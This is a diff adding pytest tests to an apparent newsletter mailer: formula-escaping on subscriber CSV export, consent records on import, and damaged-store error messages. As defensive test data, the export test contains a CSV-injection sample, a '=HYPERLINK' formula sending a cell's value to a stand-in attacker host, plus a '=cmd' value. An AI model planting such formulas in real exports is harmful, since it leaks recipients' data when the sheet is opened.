@@ -7,6 +7,8 @@ import io
 import stat
 from pathlib import Path
 
+import pytest
+
 from mailer.audience.store import SubscriberStore
 from mailer.deliver.suppressions import SPAM_REPORT, Suppression, SuppressionList
 from tests.conftest import SAMPLE_ISSUE, approve, write_subscribers
@@ -130,3 +132,53 @@ def test_a_live_send_from_the_store_goes_to_the_confirmed_readers_once(workspace
     assert ADA not in recipients and len(recipients) == len(set(recipients)) == 17
     again = run_cli("send", SAMPLE_ISSUE, "--live", "--yes")
     assert again.exit_code == 0 and "sending to 0 recipient(s)" in again.stderr
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_and_imports_back_as_it_was(workspace: Path, state_dir: Path,
+                                                                                  run_cli) -> None:
+    # A stranger's sign-up can put any name in the store: written raw, `=HYPERLINK(…)` ran in the editor's sheet.
+    formulas = ["=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")", "+1+2", "-3", "@SUM(A1)"]
+    rows = [f"reader{n}@example.com,\"{name.replace(chr(34), chr(34) * 2)}\",Last,," for n, name in enumerate(formulas)]
+    rows.append("tags@example.com,Tess,,,=cmd")
+    run_cli("subscribers", "import", write_subscribers(workspace, rows).name)
+    exported = run_cli("subscribers", "export", "sheet.csv")
+    assert exported.exit_code == 0
+    cells = [row for row in csv.reader(io.StringIO((workspace / "sheet.csv").read_text(encoding="utf-8")))][1:]
+    assert [cell[1] for cell in cells[:4]] == [f"'{name}" for name in formulas] and cells[4][4] == "'=cmd"
+    assert not any(cell[:1] in "=+-@" for row in cells for cell in row if cell and "@example.com" not in cell)
+    again = run_cli("subscribers", "import", "sheet.csv")
+    assert again.exit_code == 0 and "0 added, 0 updated, 5 unchanged" in again.stdout, again.stdout
+    with SubscriberStore.open(state_dir) as store:
+        assert store.get("reader0@example.com").first_name == formulas[0]
+
+
+def test_an_import_that_confirms_a_pending_reader_records_the_consent_it_stands_for(workspace: Path,
+                                                                                   state_dir: Path, run_cli) -> None:
+    from mailer.audience.store import PENDING, Incoming
+
+    with SubscriberStore.open(state_dir) as store:
+        store.import_readers([Incoming("ada@example.com", status=PENDING, line=2)], form="old.csv")
+        assert store.consents("ada@example.com") == []
+    run_cli("subscribers", "import", write_subscribers(workspace, ["ada@example.com,Ada,,,"]).name)
+    with SubscriberStore.open(state_dir) as store:
+        reader = store.get("ada@example.com")
+        assert (reader.status, reader.status_reason) == ("confirmed", "")
+        assert [consent.form for consent in store.consents("ada@example.com")] == ["import of subs.csv"]
+
+
+@pytest.mark.parametrize("damage", ["empty", "garbage", "fifo"])
+def test_a_damaged_store_is_named_with_what_starting_afresh_would_lose(workspace: Path, state_dir: Path, run_cli,
+                                                                       damage: str) -> None:
+    import os
+
+    state_dir.mkdir(parents=True, exist_ok=True)
+    path = state_dir / "subscribers.sqlite3"
+    if damage == "fifo":
+        os.mkfifo(path)
+    else:
+        path.write_bytes(b"" if damage == "empty" else b"not a database at all" * 100)
+    for args in (["subscribers", "list"], ["send", SAMPLE_ISSUE]):
+        result = run_cli(*args)
+        assert result.exit_code == 1, (args, result)
+        assert "subscribers.sqlite3 is damaged" in result.stderr and "lose the readers" in result.stderr
+        assert "mailer subscribers import" in result.stderr and "send every issue" not in result.stderr
